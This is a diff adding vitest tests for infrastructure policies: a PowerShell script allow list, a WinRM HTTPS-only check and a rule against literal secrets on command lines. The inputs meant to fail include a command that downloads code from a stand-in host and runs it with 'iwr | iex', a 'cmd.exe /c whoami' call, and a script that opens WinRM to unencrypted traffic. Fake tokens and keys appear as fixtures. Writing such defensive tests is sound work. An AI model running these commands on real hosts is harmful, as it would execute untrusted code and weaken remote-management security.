@@ -1,6 +1,7 @@
 /** Each policy of the pack on fake resource arguments: one that passes, and ones that must fail. */
 import { describe, expect, it } from "vitest";
 import { buildStdin, inlineCommand } from "../../components/host/bootstrap";
+import { stepNames } from "../../components/host/steps";
 import { winrmCommandLines } from "../../components/host/winrmRunner";
 import { FAKE_SECRETS, prodConfig, stagingConfig, withMode } from "../fixtures/configs";
 import { command, RANGES, resourceViolations, stackViolations, step } from "./util";
@@ -188,5 +189,79 @@ describe("origin-firewall-cloudflare-only", () => {
         expect((await stackViolations(policy, [fw(netsh)])).map((v) => v.message)).toEqual([
             "the firewall is changed with netsh.exe, which this policy cannot verify: use our rule shapes (New-NetFirewallRule/Set-NetFirewallRule)",
         ]);
+    });
+});
+
+describe("host-script-allow-list", () => {
+    const policy = "host-script-allow-list";
+    it("passes every step script of both ingress modes (create, audit, delete)", async () => {
+        for (const cfg of [prodConfig, stagingConfig, withMode(prodConfig, "direct"), withMode(stagingConfig, "tunnel")]) {
+            for (const name of stepNames(cfg)) {
+                const s = step(name, cfg);
+                expect(await resourceViolations(policy, REMOTE, command(s.create, { deleteScript: s.delete })), name).toEqual([]);
+                expect(await resourceViolations(policy, REMOTE, command(s.audit)), name).toEqual([]);
+            }
+        }
+    });
+    it("fails Invoke-Expression behind an alias, a program off the list, and a command line of no known shape", async () => {
+        const health = step("health", prodConfig).create;
+        expect(await resourceViolations(policy, REMOTE, command(`${health}iex 'Write-Output 1'\n`))).toEqual([
+            "runs iex (Invoke-Expression), which the policy refuses: it runs code or changes commands the policy cannot read",
+        ]);
+        expect(await resourceViolations(policy, REMOTE, command(`${health}& 'C:\\Windows\\System32\\cmd.exe' /c 'whoami'\n`))).toEqual([
+            "runs cmd.exe, which is not one of the allowed programs (sc.exe, nssm.exe, cloudflared.exe)",
+        ]);
+        expect(await resourceViolations(policy, REMOTE, { ...command(health), create: "powershell -Command \"iwr https://example.net | iex\"" })).toEqual([
+            'a command line the policy cannot read (neither the bootstrap, an inline script nor the WinRM runner): powershell -Command "iwr https://example.net | iex"',
+        ]);
+    });
+    it("fails a parameter PowerShell 5.1 cannot bind", async () => {
+        const health = step("health", prodConfig).create;
+        expect(await resourceViolations(policy, REMOTE, command(`${health}Invoke-WebRequest -Uri 'http://127.0.0.1:8000/health' -SkipCertificateCheck\n`))).toEqual([
+            "Invoke-WebRequest: A parameter cannot be found that matches parameter name 'SkipCertificateCheck'.",
+        ]);
+    });
+});
+
+describe("winrm-https-only", () => {
+    const policy = "winrm-https-only";
+    const runner = (allowHttp: string) => ({ ...winrmCommandLines({ create: "", audit: "" }), stdin: buildStdin("Write-Output 'x'"), environment: { NOVA_WINRM_HOST: "h", NOVA_WINRM_ALLOW_HTTP: allowHttp } });
+    it("passes the WinRM runner over HTTPS", async () => {
+        expect(await resourceViolations(policy, LOCAL, runner("false"))).toEqual([]);
+    });
+    it("fails the runner over plain HTTP, unless the policy config accepts it explicitly", async () => {
+        expect(await resourceViolations(policy, LOCAL, runner("true"))).toEqual([
+            "WinRM over plain HTTP (NOVA_WINRM_ALLOW_HTTP=true): use HTTPS, or set the policy config allowPlainHttp: true to accept it",
+        ]);
+        expect(await resourceViolations(policy, LOCAL, runner("true"), { allowPlainHttp: true })).toEqual([]);
+    });
+    it("fails a script that opens the host's WinRM to unencrypted traffic, even with the override", async () => {
+        const script = "Set-Item -Path 'WSMan:\\localhost\\Service\\AllowUnencrypted' -Value $true\nSet-WSManQuickConfig -Force\n";
+        expect(await resourceViolations(policy, REMOTE, command(script), { allowPlainHttp: true })).toEqual([
+            "a script opens WinRM to plain HTTP or unencrypted traffic (Set-Item): use HTTPS (5986)",
+            "a script opens WinRM to plain HTTP or unencrypted traffic (Set-WSManQuickConfig): use HTTPS (5986)",
+        ]);
+    });
+});
+
+describe("command-line-no-literal-secret", () => {
+    const policy = "command-line-no-literal-secret";
+    const tools = step("tools", prodConfig);
+    it("passes the step commands (bootstrap, inline delete, runner) and the runner's password variable", async () => {
+        expect(await resourceViolations(policy, REMOTE, command(tools.create, { deleteScript: tools.delete, secrets: { ...FAKE_SECRETS } }))).toEqual([]);
+        const lines = winrmCommandLines(tools);
+        expect(await resourceViolations(policy, LOCAL, { ...lines, environment: { NOVA_WINRM_HOST: "nova-win.example.net", NOVA_WINRM_PASSWORD: "pQ8#vX2!mZ7$kL4@wR9^tY6&" } })).toEqual([]);
+    });
+    it("fails a token on a command line, in an inline script, and in the environment (without quoting it)", async () => {
+        const token = "eyJhIjoiMGQ3YjQxZTkiLCJ0IjoiOWY1YzNlMmEtN2IxZCIsInMiOiJabTl2WW1GeSJ9";
+        expect(await resourceViolations(policy, LOCAL, { create: `node run.js --token ${token}` })).toEqual([
+            "create holds a high-entropy literal of 68 characters: pass secrets on stdin",
+        ]);
+        expect(await resourceViolations(policy, REMOTE, command("Write-Output 'x'", { deleteScript: `cloudflared.exe service install '${token}'` }))).toEqual([
+            "delete's script holds a high-entropy literal of 68 characters: pass secrets on stdin",
+        ]);
+        const found = await resourceViolations(policy, LOCAL, { create: "node run.js", environment: { API_KEY: "sk-ant-api03-Xq9vT2mLp8ZkR4wN7bY1cH6dF3gJ0sA5" } });
+        expect(found).toEqual(["environment API_KEY holds a high-entropy literal of 45 characters: pass secrets on stdin or as the runner's secret"]);
+        expect(found.join("")).not.toContain("Xq9v");
     });
 });
